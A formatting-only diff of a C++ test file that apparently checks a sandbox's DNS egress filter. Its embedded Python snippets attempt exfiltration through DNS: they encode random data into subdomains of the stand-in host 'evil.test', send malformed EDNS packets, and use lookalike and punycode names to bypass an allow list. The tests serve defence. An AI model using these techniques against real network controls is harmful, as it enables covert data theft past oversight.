@@ -35,8 +35,9 @@ TEST_P(EgressNamesAttack, D08_NoLookupOfADeniedNameReachesAnybody) {
   EXPECT_THAT(names, Not(Contains("system")));
   EXPECT_THAT(internet().queries(), IsEmpty());
   EXPECT_EQ(reached(), Names{});
-  (void)through_outside("attempt('a', finds, '11.0.0.53', 'secret.evil.test')\n"
-                        "attempt('b', lambda: finds('8.8.8.8', 'secret.evil.test', stream=True))\n");
+  (void)through_outside(
+      "attempt('a', finds, '11.0.0.53', 'secret.evil.test')\n"
+      "attempt('b', lambda: finds('8.8.8.8', 'secret.evil.test', stream=True))\n");
   EXPECT_THAT(internet().queries(), testing::SizeIs(2));
 }
 
@@ -54,7 +55,8 @@ TEST_P(EgressNamesAttack, D09_NothingButAddressesOfAllowedNamesIsTold) {
       "attempt('a byte that no name has', rows, ['se\\x01cret', 'allowed', 'test'], 1)\n"
       "attempt('a dot inside', rows, ['secret.allowed', 'test'], 1)\n"
       "attempt('a nul inside', rows, ['allowed', 'test\\0evil'], 1)\n"
-      "option = b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0' + struct.pack('>HHH', 104, 65001, 100) + b'x' * 100\n"
+      "option = b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0' + struct.pack('>HHH', 104, 65001, 100) + b'x' * "
+      "100\n"
       "attempt('option', rows, 'evil.test', 1, option, 1)\n"
       "for _ in range(20):\n"
       "    junk = bytes(random.randrange(256) for _ in range(random.randrange(12, 200)))\n"
@@ -66,7 +68,8 @@ TEST_P(EgressNamesAttack, D09_NothingButAddressesOfAllowedNamesIsTold) {
       "attempt('another, still', rows, 'allowed.test', 28)\n";
   EXPECT_EQ(through("allow=allowed.test", code), (Names{"an address, still", "another, still"}));
   EXPECT_THAT(internet().queries(), IsEmpty());
-  (void)through_outside("attempt('txt', lambda: looked_up('11.0.0.53', question('x.evil.test', 16)))");
+  (void)through_outside(
+      "attempt('txt', lambda: looked_up('11.0.0.53', question('x.evil.test', 16)))");
   EXPECT_THAT(internet().queries(), Contains("x.evil.test 16"));
 }
 
@@ -78,7 +81,9 @@ TEST_P(EgressNamesAttack, D09_ThousandsOfLookupsTellNobodyAnything) {
       "import random\n"
       "found = {'evil': 0, 'wild': 0, 'late': 0}\n"
       "refused = 0\n"
-      "for number in range(" + count + "):\n"
+      "for number in range(" +
+      count +
+      "):\n"
       "    data = '%060x' % random.getrandbits(240)\n"
       "    for zone in ('evil', 'wild'):\n"
       "        code, rows = looked_up('11.0.0.53', question('%s.%s.test' % (data, zone)))\n"
@@ -101,7 +106,8 @@ TEST_P(EgressNamesAttack, D16_NamesThatLookLikeAllowedOnesAreOthers) {
       "for name in ('evilallowed.test', 'allowed.test.evil.test', 'allowedXtest', 'allowed.tes',\n"
       "             'llowed.test', 'xn--llowed-2ve.test', 'allowed.test..', '.allowed.test',\n"
       "             'wild.test', 'evilwild.test', 'a.wild.test.evil.test', 'a.wild.tes',\n"
-      "             '.wild.test', '*.wild.test', 'a..wild.test', '-.wild.test', 'allowed%2etest'):\n"
+      "             '.wild.test', '*.wild.test', 'a..wild.test', '-.wild.test', "
+      "'allowed%2etest'):\n"
       "    attempt(name + ' by name', lambda: socket.getaddrinfo(name, 7000))\n"
       "    attempt(name + ' by tunnel', tunnelled, name + ':7000')\n"
       "    attempt(name + ' by socks', lambda: socks(name.encode(), 7000) == 0)\n"
@@ -134,7 +140,8 @@ TEST_P(EgressNamesAttack, D27_AResolverThatFailsOpensNothing) {
       "    finally:\n"
       "        if time.time() - begun > 15:\n"
       "            print('through late', flush=True)\n"
-      "for name in ('silent.test', 'failing.test', 'garbage.test', 'foreign.test', 'no.such.test'):\n"
+      "for name in ('silent.test', 'failing.test', 'garbage.test', 'foreign.test', "
+      "'no.such.test'):\n"
       "    attempt(name, within, name)\n"
       "attempt('slow', echoes, 'slow.test')\n"
       "attempt('allowed', echoes, 'allowed.test')\n";
@@ -143,8 +150,9 @@ TEST_P(EgressNamesAttack, D27_AResolverThatFailsOpensNothing) {
   EXPECT_THAT(internet().queries(), testing::IsSupersetOf({"silent.test 1", "garbage.test 1"}));
   // Without any resolver, names lead nowhere, and addresses go on.
   write_text(internet().directory() + "/resolv.conf", "nameserver 11.0.0.77\n");
-  EXPECT_EQ(through("full", "attempt('name', echoes, 'allowed.test')\n"
-                            "attempt('address', echoes, '11.6.6.6')\n"),
+  EXPECT_EQ(through("full",
+                    "attempt('name', echoes, 'allowed.test')\n"
+                    "attempt('address', echoes, '11.6.6.6')\n"),
             Names{"address"});
 }
 
